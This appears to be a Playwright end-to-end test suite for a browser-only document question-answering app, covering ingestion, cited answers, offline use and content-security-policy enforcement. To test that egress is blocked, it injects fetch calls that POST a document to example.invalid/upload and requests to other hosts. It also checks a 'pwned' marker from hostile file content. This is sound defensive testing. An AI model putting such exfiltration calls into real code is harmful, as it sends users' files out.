"""The browser app end to end: Debian's Chromium against dist/ as `build.py serve` serves it.

One session walks what a person does: open the page, drop real files of every format (and a bad
one), ask, open a citation, reload (the library is still there, nothing is embedded again), then
stop the server and ask again offline. Every request of the session is recorded, the page's, its
workers' and the service worker's: none may leave the origin, the page says so, and an attempt to
reach another address is blocked and shown.
"""

from __future__ import annotations

import socket
from urllib.parse import urlparse

from playwright.sync_api import expect

from browser_app import ANSWER, RECORD_VIOLATIONS, STARTUP, Serve, app_worker, ask, drop, onnx_worker, wait_until
from quire_build import ROOT
from quire_build.serve import Background
from quire_build.site import PAGE_POLICY, WORKER_POLICY, build_site
from quire_build.toolchain import chromium
from samples import LIBRARY, make_pdf

BROKEN = ("scan.pdf", make_pdf([[]]))  # dropped on the drop zone, separately
NOTHING_LEAVES = "leaves this device"

ARTIFACTS = ROOT / "test-artifacts"


def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
    for name, data in LIBRARY.items():
        (tmp_path / name).write_bytes(data)
    requests = []
    with chromium() as browser:
        # Playwright reports the requests of the page, its workers and the service worker here.
        browser.on("request", lambda request: requests.append(request))
        browser.add_init_script(RECORD_VIOLATIONS)
        server = Serve()
        url = server.__enter__()
        page = browser.new_page()
        page.goto(url + "/")
        # Usable at once: the drop zone is there while the runtimes load.
        assert page.is_visible("#dropzone")
        page.wait_for_selector("body.ready", timeout=STARTUP)
        assert "on this device" in page.text_content("#engine")
        expect(page.locator("#egress")).to_contain_text(NOTHING_LEAVES)
        expect(page.locator("#egress")).to_contain_text("all to this site")
        # Regression (models fetched before the service worker controlled the page missed its
        # cache): the first visit already holds everything offline use needs.
        expect(page.locator("#egress")).to_contain_text("Offline-ready", timeout=60_000)

        page.set_input_files("#picker", [str(tmp_path / name) for name in LIBRARY])
        drop(page, *BROKEN)
        expect(page.locator("#documents li")).to_have_count(5, timeout=ANSWER)
        expect(page.locator("#ingest li.failed")).to_have_count(1, timeout=ANSWER)
        failed = page.text_content("#ingest li.failed")
        assert "scan.pdf" in failed and "no text layer" in failed
        assert page.locator("#documents li").count() == 5
        assert page.evaluate("window.pwned") is None, "document content never runs"

        ask(page, "Who built the Zorblat bridge?")
        assert "Zorblat" in page.text_content("#extractive")
        assert "bridges.pdf, page 2" in page.text_content("#extractive-source")
        assert "bridges.pdf" in page.text_content("#sources")
        assert "Lindqvist" in page.text_content("#answer")
        # The answer is cut to the fact; the model's whole sentence is its title.
        said = page.get_attribute("#answer", "title")
        assert said.startswith("The model's words: ") and "Lindqvist" in said
        page.click("#answer button.cite")
        page.wait_for_selector("#viewer:not([hidden]) mark")
        assert "Hanna Lindqvist" in page.text_content("#viewer mark")
        assert page.text_content("#viewer-title") == "bridges.pdf, page 2"
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "answered.png"), full_page=True)

        # A question can be stopped: the answer ends early and says so.
        page.fill("#question", "Describe the orchard, the harvest, the bees and the tea room in detail.")
        # Stop at the first words shown, from the page itself: an answer of ~20 tokens at ~20 tokens/s
        # is over before a click from here would land (regression: the test raced a fast answer).
        page.evaluate("""() => {
            const answer = document.getElementById("answer");
            const observer = new MutationObserver(() => {
                if (!answer.textContent.trim()) return;
                observer.disconnect();
                document.getElementById("stop").click();
            });
            observer.observe(answer, { childList: true, characterData: true, subtree: true });
        }""")
        page.click("#ask")
        expect(page.locator("#answer")).not_to_be_empty(timeout=ANSWER)
        page.wait_for_selector("#stop", state="hidden", timeout=ANSWER)
        assert "stopped" in page.text_content("#answer-meta")

        # After a reload the library is there and answers come without embedding anything again.
        page.reload()
        page.wait_for_selector("body.ready", timeout=STARTUP)
        expect(page.locator("#documents li")).to_have_count(5)
        # Every file this visit fetched came from the service worker's cache.
        expect(page.locator("#egress")).to_contain_text(f"Offline-ready · nothing {NOTHING_LEAVES}", timeout=30_000)
        ask(page, "When does the farm shop open?")
        assert "shop.html" in page.text_content("#sources")
        assert page.locator("#ingest li").count() == 0

        # Removing a document takes it out of the answers.
        page.click("#documents li:has-text('tea.txt') button")
        expect(page.locator("#documents li")).to_have_count(4)
        ask(page, "What does the tea room serve?")
        assert "tea.txt" not in page.text_content("#sources")

        # Offline: the server is gone; the service worker serves everything.
        server.__exit__(None, None, None)
        page.reload()
        page.wait_for_selector("body.ready", timeout=STARTUP)
        ask(page, "How many hives does the beekeeper keep?")
        assert "bees.docx" in page.text_content("#sources")
        assert "forty" in page.text_content("#extractive")

        page.on("dialog", lambda dialog: dialog.accept())  # "Remove every document…?"
        page.click("#clear")
        page.wait_for_selector("#empty-library", state="visible")
        assert page.locator("#documents li").count() == 0
        assert page.evaluate("window.cspViolations") == [], "the app itself never trips its own policy"
        expect(page.locator("#egress")).not_to_have_class("chip warning")

        # Off-origin attempts, from the page and from its workers, to a port that listens: the policy
        # refuses them before any connection, and the page names the addresses it refused.
        with socket.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            listener.listen()
            listener.setblocking(False)
            elsewhere = f"127.0.0.1:{listener.getsockname()[1]}"
            page.evaluate("fetch('http://example.invalid/upload', { method: 'POST', body: 'a document' })"
                          ".catch(() => {})")
            page.evaluate(f"document.body.append(Object.assign(new Image(), {{ src: 'http://{elsewhere}/pixel.png' }}))")
            app_worker(page).evaluate(f"fetch('http://{elsewhere}/from-the-worker').catch(() => {{}})")
            onnx_worker(page).evaluate("fetch('http://weights.invalid/from-onnxruntime').catch(() => {})")
            expect(page.locator("#egress")).to_have_class("chip warning")
            expect(page.locator("#egress")).to_contain_text("Blocked a request to")
            expect(page.locator("#egress")).to_contain_text("example.invalid")
            expect(page.locator("#egress")).to_contain_text(elsewhere)
            expect(page.locator("#egress")).to_contain_text("weights.invalid")  # onnxruntime's worker's, on its port
            page.wait_for_timeout(1000)
            try:
                listener.accept()
                raise AssertionError(f"something connected to {elsewhere}")
            except BlockingIOError:
                pass
        refused = {(v["directive"], v["blocked"]) for v in page.evaluate("window.cspViolations")}
        assert refused == {("connect-src", "http://example.invalid/upload"),
                           ("img-src", f"http://{elsewhere}/pixel.png")}

    origin = urlparse(url).netloc
    strays = [r for r in requests
              if urlparse(r.url).scheme in ("http", "https") and urlparse(r.url).netloc != origin]
    # The only one is the injected <img>, which the browser stopped before sending (a blocked fetch()
    # is not even reported as a request).
    assert [(r.url, r.failure) for r in strays] == [(f"http://{elsewhere}/pixel.png", "csp")]
    # The record holds what the workers and the service worker fetched, not only the page.
    paths = {urlparse(r.url).path for r in requests}
    assert {"/precache.json", "/sw-version.js", "/wheels/pyodide-lock.json",
            "/models/all-minilm-l6-v2/onnx/model_quantized.onnx", "/models/all-minilm-l6-v2/onnx/model_quantized.onnx_data",
            "/ort/ort-wasm-simd-threaded.wasm"} <= paths


def test_a_plain_static_host_gets_threads_and_a_software_gpu_is_not_used(built_models):
    """The service worker adds COOP/COEP, so onnxruntime runs threads on a host that sends no such
    headers, and the Content-Security-Policy, so the workers have one there too; and a fallback
    WebGPU adapter (SwiftShader, ~90x slower than WASM) is passed over."""
    dist = build_site()
    with chromium(["--enable-unsafe-webgpu"]) as browser, Background({"/": dist}, site_headers=False) as url:
        served = {}  # path -> the Content-Security-Policy of the service worker's latest response

        def note(response):
            if response.from_service_worker:
                served[urlparse(response.url).path] = response.headers.get("content-security-policy")
        browser.on("response", note)
        page = browser.new_page()
        page.goto(url + "/")
        wait_until(page, "self.crossOriginIsolated", timeout=STARTUP)  # after one reload
        page.wait_for_selector("body.ready", timeout=STARTUP)
        # The host sent no policy: the page has its <meta>, and the service worker added the headers,
        # the only policy a worker can get there.
        assert page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content") == PAGE_POLICY
        assert served["/"] == PAGE_POLICY
        assert served["/worker.js"] == WORKER_POLICY
        adapter = page.evaluate("""async () => {
            const a = await navigator.gpu?.requestAdapter();
            return a ? (a.info?.isFallbackAdapter ?? a.isFallbackAdapter) : null; }""")
        assert adapter is True, "this test needs Chromium's software WebGPU adapter"
        assert page.text_content("#engine").startswith("WASM")
